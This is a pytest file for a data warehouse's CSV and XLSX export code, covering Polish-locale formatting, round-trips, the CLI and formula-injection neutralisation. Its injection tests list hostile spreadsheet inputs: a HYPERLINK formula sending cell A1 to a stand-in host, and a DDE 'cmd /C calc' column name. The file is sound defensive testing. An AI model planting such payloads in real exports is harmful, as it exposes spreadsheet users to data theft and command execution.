"""Exports: the excel-pl and standard CSV dialects and XLSX give back the mart's numbers;
`cityops export` writes them and names the available marts when asked for an unknown one.
Issue 15 § 4: excel-pl and XLSX carry the page's headers and words (tak/nie, enumerations)
in the export's language, numbers without binary noise, counts as integers; XLSX a frozen
header, a filter, display formats over full-precision values; every export says what it
holds."""

from __future__ import annotations

import io
import re
from datetime import date, datetime

import duckdb
import openpyxl
import polars as pl
import pytest
from click.testing import CliRunner

from dashboards.formats import format_frame
from warehouse.cli import main
from warehouse.export import (
    ExportAbout,
    export_mart,
    frame_to_csv_bytes,
    frame_to_xlsx_bytes,
    neutralise_formulas,
    read_mart,
)

BOM = b"\xef\xbb\xbf"  # UTF-8's byte-order mark, as Excel looks for it (not the module's)
MART = "director_kpis"  # decimals, dates, text and booleans


def sample() -> pl.DataFrame:
    return pl.DataFrame({
        "unit_code": ["IT-02-3", "DK-02"],
        "name_pl": ["Referat Obsługi Zgłoszeń", "Krakowskie Centrum Kontaktu; infolinia"],
        "value": [1234.5, -0.25],
        "tickets": [1200, 7],
        "month_start": [date(2026, 11, 1), date(2026, 10, 1)],
        "opened_at": [datetime(2026, 11, 22, 10, 5, 7), None],
        "is_open": [True, False],
    })


def test_excel_pl_dialect_bytes():
    data = frame_to_csv_bytes(sample(), "excel-pl")
    assert data.startswith(BOM)
    text = data[len(BOM):].decode("utf-8")
    header, first, second = text.split("\r\n")[:3]
    assert header == ("Kod jednostki;Nazwa;Wartość;Zgłoszenia IT;Miesiąc;Data otwarcia;"
                      "Otwarte (tak/nie)")
    assert first == ("IT-02-3;Referat Obsługi Zgłoszeń;1234,5;1200;2026-11-01;"
                     "2026-11-22 10:05:07;tak")
    assert second.startswith('DK-02;"Krakowskie Centrum Kontaktu; infolinia";-0,25;7;')
    assert second.endswith(";nie")
    english = frame_to_csv_bytes(sample(), "excel-pl", "en").decode("utf-8-sig")
    assert english.split("\r\n")[0].endswith(";IT tickets;Month;Opened at;Open (yes/no)")
    assert english.split("\r\n")[1].endswith(";yes")


def test_standard_dialect_bytes():
    data = frame_to_csv_bytes(sample(), "standard", "en", ExportAbout(period="x"))
    assert not data.startswith(BOM)
    lines = data.decode("utf-8").split("\n")
    assert lines[0] == "unit_code,name_pl,value,tickets,month_start,opened_at,is_open"
    assert lines[1] == ("IT-02-3,Referat Obsługi Zgłoszeń,1234.5,1200,2026-11-01,"
                        "2026-11-22 10:05:07,true")
    with pytest.raises(ValueError):
        frame_to_csv_bytes(sample(), "excel-de")


def test_both_dialects_read_back_to_the_same_frame():
    df = sample()
    pl_back = pl.read_csv(io.BytesIO(frame_to_csv_bytes(df, "excel-pl")), separator=";",
                          decimal_comma=True, try_parse_dates=True)
    std_back = pl.read_csv(io.BytesIO(frame_to_csv_bytes(df, "standard")), try_parse_dates=True)
    assert std_back.columns == df.columns
    assert pl_back.columns == format_frame(df).columns  # the BOM does not stick to the first
    for back in (pl_back.rename(dict(zip(pl_back.columns, df.columns, strict=True))), std_back):
        assert back["value"].to_list() == [1234.5, -0.25]
        assert back["tickets"].to_list() == [1200, 7]
        assert back["month_start"].to_list() == df["month_start"].to_list()
        assert back["opened_at"].to_list() == df["opened_at"].to_list()
        assert back["name_pl"].to_list() == df["name_pl"].to_list()


def test_xlsx_bytes_open_in_openpyxl():
    wb = openpyxl.load_workbook(io.BytesIO(frame_to_xlsx_bytes(sample())))
    ws = wb.active
    values = list(ws.iter_rows(values_only=True))
    assert values[0] == tuple(format_frame(sample()).columns)
    assert values[1][:4] == ("IT-02-3", "Referat Obsługi Zgłoszeń", 1234.5, 1200)
    assert values[1][5] == datetime(2026, 11, 22, 10, 5, 7)
    assert [r[6] for r in values[1:]] == ["tak", "nie"]


# ------------------------------------------------------------------ issue 15 § 4
NOISY = 0.1 + 0.2 + 0.46  # 0.7600000000000001: binary noise of a sum


def analyst_sample() -> pl.DataFrame:
    return pl.DataFrame({
        "month_start": [date(2026, 10, 1), date(2026, 11, 1), date(2026, 11, 1)],
        "direction": ["higher_is_better", "lower_is_better", "higher_is_better"],
        "value": [NOISY, 0.7600000000000051, 2 / 3 * 100],
        "numerator": [1598.0, 3.0, 42.0],  # a count the mart keeps as DOUBLE
        "tickets": [1598, 0, 12],
        "is_on_target": [True, False, None],
        "title": ["#hashtag w tytule", "ok", "=1+1"],
    })


def test_excel_pl_csv_round_trips_with_the_page_headers_words_and_numbers():
    df = analyst_sample().select("title", pl.exclude("title"))  # text first: '#' is guarded
    about = ExportAbout(title="=Wskaźniki; październik", period="10.2026–11.2026",
                        filters=(("Jednostka", "=IT-02"),), as_of="31.10.2026 23:10",
                        source="marts.director_kpis")
    data = frame_to_csv_bytes(df, "excel-pl", "pl", about)
    text = data.decode("utf-8-sig")
    block = [line for line in text.split("\r\n") if line.startswith("#")]
    assert block == ['# Tabela;"\'=Wskaźniki; październik"', "# Okres;10.2026–11.2026",
                     "# Filtry;Jednostka: =IT-02", "# Stan danych na;31.10.2026 23:10",
                     "# Źródło;marts.director_kpis", "# Wiersze;3", "#"]
    assert "0,76;" in text and "0,7600000000000" not in text and "66,6666666667;" in text
    assert "1598;" in text and "1598,0" not in text and ",0;" not in text
    back = pl.read_csv(io.BytesIO(data), separator=";", decimal_comma=True,
                       comment_prefix="#", try_parse_dates=True)
    shown = format_frame(df, "pl")
    assert back.columns == shown.columns
    assert back.height == df.height  # no data row taken for a comment
    label = dict(zip(df.columns, shown.columns, strict=True))
    assert back[label["title"]].to_list() == ["'#hashtag w tytule", "ok", "'=1+1"]
    assert back[label["direction"]].to_list() == ["im więcej, tym lepiej",
                                                  "im mniej, tym lepiej",
                                                  "im więcej, tym lepiej"]
    assert back[label["is_on_target"]].to_list() == ["tak", "nie", None]
    assert back[label["value"]].to_list() == [0.76, 0.76, 66.6666666667]
    assert back[label["numerator"]].dtype == pl.Int64
    assert back[label["numerator"]].to_list() == [1598, 3, 42]
    assert back[label["tickets"]].to_list() == [1598, 0, 12]
    assert back[label["month_start"]].to_list() == df["month_start"].to_list()


def test_xlsx_has_frozen_header_filter_formats_full_values_and_an_about_sheet():
    df = analyst_sample()
    about = ExportAbout(title="Wskaźniki", period="10.2026–11.2026", as_of="31.10.2026")
    wb = openpyxl.load_workbook(io.BytesIO(frame_to_xlsx_bytes(df, lang="pl", about=about)))
    assert wb.sheetnames == ["dane", "opis"]
    ws = wb["dane"]
    assert ws.freeze_panes == "A2"
    (table,) = ws.tables.values()
    assert table.ref == f"A1:G{df.height + 1}" and table.autoFilter.ref == table.ref
    rows = list(ws.iter_rows(values_only=True))
    assert list(rows[0]) == format_frame(df).columns
    cells = {name: [r[i] for r in ws.iter_rows(min_row=2)] for i, name in enumerate(df.columns)}
    assert [c.value for c in cells["value"]] == df["value"].to_list()  # nothing rounded …
    assert {c.number_format for c in cells["value"]} == {"#,##0.0"}  # … on display only
    assert {c.number_format for c in cells["numerator"]} == {"#,##0"}
    assert {c.number_format for c in cells["month_start"]} == {"mm.yyyy"}
    assert [c.value for c in cells["is_on_target"]] == ["tak", "nie", None]
    assert all(ws.column_dimensions[c].width > 10 for c in "BG")  # fitted to the words
    assert list(wb["opis"].iter_rows(values_only=True)) == [
        ("Tabela", "Wskaźniki"), ("Okres", "10.2026–11.2026"), ("Filtry", "brak"),
        ("Stan danych na", "31.10.2026"), ("Wiersze", "3")]
    english = openpyxl.load_workbook(io.BytesIO(frame_to_xlsx_bytes(df, lang="en",
                                                                    about=about)))
    assert english.sheetnames == ["data", "about"]
    assert {c.number_format for c in list(english["data"].columns)[0][1:]} == {"yyyy-mm"}


def _significant_digits(text: str) -> int:
    digits = text.lstrip("-").replace(",", "").lstrip("0").rstrip("0") if "," in text \
        else text.lstrip("-").lstrip("0")
    return len(digits)


def test_mart_export_round_trips(built_warehouse, tmp_path):
    mart = read_mart(built_warehouse, MART)
    assert mart.height > 0
    out = tmp_path / "kpi.csv"
    assert export_mart(built_warehouse, MART, out) == mart.height
    raw = out.read_bytes()
    assert raw.startswith(BOM)
    text = raw.decode("utf-8-sig")
    assert f"# Źródło;marts.{MART}\r\n" in text
    back = pl.read_csv(out, separator=";", decimal_comma=True, comment_prefix="#",
                       try_parse_dates=True, infer_schema_length=None)
    shown = format_frame(mart, "pl")
    assert back.columns == shown.columns  # the page's headers
    label = dict(zip(mart.columns, shown.columns, strict=True))
    # the mart's values, a second way: DuckDB, in the mart's own order
    con = duckdb.connect(str(built_warehouse), read_only=True)
    try:
        expected = con.execute(
            f"select kpi_code, month_start, value, target, breakdowns_judged, "
            f"case when is_on_target then 'tak' when not is_on_target then 'nie' end "
            f"from marts.{MART}").fetchall()
    finally:
        con.close()
    assert back.height == len(expected)
    assert back[label["kpi_code"]].to_list() == [r[0] for r in expected]
    assert back[label["month_start"]].to_list() == [r[1] for r in expected]
    assert back[label["value"]].to_list() == pytest.approx([r[2] for r in expected],
                                                           rel=1e-11, nan_ok=True)
    assert back[label["target"]].to_list() == pytest.approx([r[3] for r in expected])
    assert back[label["breakdowns_judged"]].to_list() == [r[4] for r in expected]  # a count
    assert back[label["is_on_target"]].to_list() == [r[5] for r in expected]
    # words as the page shows them, and no number written with noise or a ",0"
    for column in ("direction", "unit"):
        assert back[label[column]].to_list() == shown[label[column]].to_list()
    cells = [c for line in text.split("\r\n") if not line.startswith("#")
             for c in line.split(";") if re.fullmatch(r"-?\d+(,\d+)?", c)]
    assert cells and max(_significant_digits(c) for c in cells) <= 12
    assert not [c for c in cells if c.endswith(",0")]

    std = tmp_path / "kpi_std.csv"
    export_mart(built_warehouse, f"marts.{MART}", std, dialect="standard")
    assert not std.read_bytes().startswith(BOM)
    back = pl.read_csv(std, schema_overrides={"value": pl.Float64})
    assert back.columns == mart.columns  # the documented names, raw values
    assert back["value"].to_list() == [r[2] for r in expected]  # exactly as stored
    assert set(back["is_on_target"].drop_nulls().to_list()) <= {True, False}

    xlsx = tmp_path / "kpi.xlsx"
    export_mart(built_warehouse, MART, xlsx, fmt="xlsx")
    wb = openpyxl.load_workbook(xlsx)
    ws = wb[MART]
    header = [c.value for c in ws[1]]
    assert header == shown.columns
    col = header.index(label["value"])
    got = [r[col] for r in ws.iter_rows(min_row=2, values_only=True)]
    # full precision: nothing rounded to display (xlsxwriter writes 16 significant digits;
    # Excel computes with 15)
    assert got == pytest.approx([r[2] for r in expected], rel=1e-15, nan_ok=True)
    assert sum(round(v, 1) != v for v in got if v is not None) > len(got) / 2
    assert ws.max_row == mart.height + 1 and ws.freeze_panes == "A2"
    about = dict(wb["opis"].iter_rows(values_only=True))
    assert about["Źródło"] == f"marts.{MART}" and about["Stan danych na"]


def test_whole_values_of_a_double_column_are_written_as_integers(built_warehouse, tmp_path):
    mart = "director_kpis_by_unit"  # numerator: counts (and sums of minutes) kept as DOUBLE
    out = tmp_path / "by_unit.csv"
    export_mart(built_warehouse, mart, out)
    lines = [line for line in out.read_bytes().decode("utf-8-sig").split("\r\n")[:-1]
             if not line.startswith("#")]
    columns = read_mart(built_warehouse, mart).columns
    position = columns.index("numerator")
    assert lines[0].split(";")[position] == format_frame(read_mart(built_warehouse, mart)
                                                         ).columns[position]
    written = [line.split(";")[position] for line in lines[1:]]
    con = duckdb.connect(str(built_warehouse), read_only=True)
    try:
        numerators = [r[0] for r in con.execute(f"select numerator from marts.{mart}").fetchall()]
    finally:
        con.close()
    assert len(written) == len(numerators)
    whole = [(w, n) for w, n in zip(written, numerators, strict=True)
             if n is not None and n == int(n)]
    assert len(whole) > 100
    assert all(w == str(int(n)) for w, n in whole)  # 1598, never 1598,0
    fractional = [(w, n) for w, n in zip(written, numerators, strict=True)
                  if n is not None and n != int(n)]
    assert all(float(w.replace(",", ".")) == pytest.approx(n, rel=1e-11) for w, n in fractional)


def test_cli_export_lang_en(built_warehouse, tmp_path):
    out = tmp_path / "kpi_en.csv"
    result = CliRunner().invoke(main, ["export", MART, "--warehouse", str(built_warehouse),
                                       "--lang", "en", "--out", str(out)])
    assert result.exit_code == 0, result.output
    mart = read_mart(built_warehouse, MART)
    back = pl.read_csv(out, separator=";", decimal_comma=True, comment_prefix="#",
                       infer_schema_length=None)
    shown = format_frame(mart, "en")
    assert back.columns == shown.columns
    on_target = shown.columns[mart.columns.index("is_on_target")]
    assert set(back[on_target].drop_nulls().to_list()) == {"yes", "no"}
    text = out.read_bytes().decode("utf-8-sig")
    assert f"# Source;marts.{MART}\r\n" in text and "# Filters;none\r\n" in text
    xlsx = tmp_path / "kpi_en.xlsx"
    result = CliRunner().invoke(main, ["export", MART, "--warehouse", str(built_warehouse),
                                       "--lang", "en", "--format", "xlsx", "--out", str(xlsx)])
    assert result.exit_code == 0, result.output
    wb = openpyxl.load_workbook(xlsx)
    assert wb.sheetnames == [MART, "about"]
    assert [c.value for c in wb[MART][1]] == shown.columns


def test_unknown_mart_names_the_available_ones(built_warehouse, tmp_path):
    with pytest.raises(KeyError, match="director_kpis"):
        export_mart(built_warehouse, "no_such_mart", tmp_path / "x.csv")


def test_cli_export(built_warehouse, tmp_path):
    runner = CliRunner()
    out = tmp_path / "queues.csv"
    result = runner.invoke(main, ["export", "kck_queue_service", "--warehouse",
                                  str(built_warehouse), "--format", "csv", "--dialect",
                                  "standard", "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = read_mart(built_warehouse, "kck_queue_service").height
    assert f"{rows} rows" in result.output
    assert pl.read_csv(out).height == rows

    xlsx = tmp_path / "queues.xlsx"
    result = runner.invoke(main, ["export", "kck_queue_service", "--warehouse",
                                  str(built_warehouse), "--format", "xlsx", "--out", str(xlsx)])
    assert result.exit_code == 0, result.output
    assert openpyxl.load_workbook(xlsx).active.max_row == rows + 1

    result = runner.invoke(main, ["export", "nope", "--warehouse", str(built_warehouse),
                                  "--out", str(tmp_path / "n.csv")])
    assert result.exit_code == 2
    assert "Available marts" in result.output and "kck_queue_service" in result.output


# ------------------------------------------------------------------ formula injection
# Issue 12 § 4: text from source systems goes out as text; a spreadsheet must not evaluate
# it (OWASP CSV injection: cells starting with = + - @ TAB CR).
EVIL = ['=HYPERLINK("http://x.invalid/?"&A1,"klik")', "=1+1", "+48 12 616 12 00",
        "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "Zgłoszenie = awaria", "ok"]


def evil() -> pl.DataFrame:
    return pl.DataFrame({
        "title": EVIL,
        "n": list(range(-4, 5)),  # negative numbers are numbers, not formulas
        "value": [-1.5] * len(EVIL),
        "code": pl.Series(EVIL, dtype=pl.Categorical),
        "=cmd|' /C calc'!A0": ["x"] * len(EVIL),  # a column name from the SQL box
    })


@pytest.mark.parametrize("dialect", ["excel-pl", "standard"])
def test_csv_text_cells_that_would_be_formulas_are_neutralised(dialect):
    data = frame_to_csv_bytes(evil(), dialect)
    back = pl.read_csv(io.BytesIO(data.removeprefix(BOM)),
                       separator=";" if dialect == "excel-pl" else ",",
                       decimal_comma=dialect == "excel-pl", infer_schema=False)
    expected = ["'" + v if v[0] in "=+-@\t\r" else v for v in EVIL]
    assert back["title"].to_list() == expected
    assert back["code"].to_list() == expected
    assert back.columns[-1] == "'=cmd|' /C calc'!A0"
    # numbers keep their sign and stay unquoted numbers
    assert back["n"].to_list() == [str(i) for i in range(-4, 5)]
    value = back.columns[2]  # "Wartość" in excel-pl: the label
    assert back[value].to_list() == ["-1,5" if dialect == "excel-pl" else "-1.5"] * len(EVIL)
    text = data.decode("utf-8-sig")
    assert "\n=" not in text and ";=" not in text and ",=" not in text


def test_neutralise_formulas_leaves_numbers_dates_and_safe_text():
    df = sample()
    assert neutralise_formulas(df).equals(df)


def test_xlsx_text_cells_stay_strings_never_formulas():
    wb = openpyxl.load_workbook(io.BytesIO(frame_to_xlsx_bytes(evil())))
    rows = list(wb.active.iter_rows(min_row=2))
    # the text itself (a CR kept as the OOXML escape _x000D_), …
    assert [r[0].value for r in rows] == [v.replace("\r", "_x000D_") for v in EVIL]
    assert {r[0].data_type for r in rows} == {"s"}  # … typed as a string, not "f"
    assert [r[1].value for r in rows] == list(range(-4, 5))
    assert {r[1].data_type for r in rows} == {"n"}


def test_dashboard_download_buttons_use_the_same_rule():
    from dashboards.components import _csv

    for dialect in ("excel-pl", "standard"):
        data = _csv(lambda: evil(), dialect)
        assert data == frame_to_csv_bytes(evil(), dialect)
        assert "'=HYPERLINK(" in data.decode("utf-8-sig")


def test_cli_export_of_a_mart_neutralises_formulas(tmp_path):
    import duckdb

    from warehouse.store import writable_copy

    wh = tmp_path / "warehouse.duckdb"
    with writable_copy(wh) as build:
        con = duckdb.connect(str(build))
        con.execute("create schema marts")
        con.execute("create table marts.publications as select * from (values "
                    "('=1+1', 3), ('@SUM(A1)', -4)) t(title, days)")
        con.close()
    for dialect, sep in (("excel-pl", ";"), ("standard", ",")):
        out = tmp_path / f"p_{dialect}.csv"
        result = CliRunner().invoke(main, ["export", "publications", "--warehouse", str(wh),
                                           "--dialect", dialect, "--out", str(out)])
        assert result.exit_code == 0, result.output
        lines = [line for line in out.read_bytes().decode("utf-8-sig").splitlines()
                 if dialect == "standard" or not line.startswith("#")]
        assert lines[1:] == [f"'=1+1{sep}3", f"'@SUM(A1){sep}-4"]
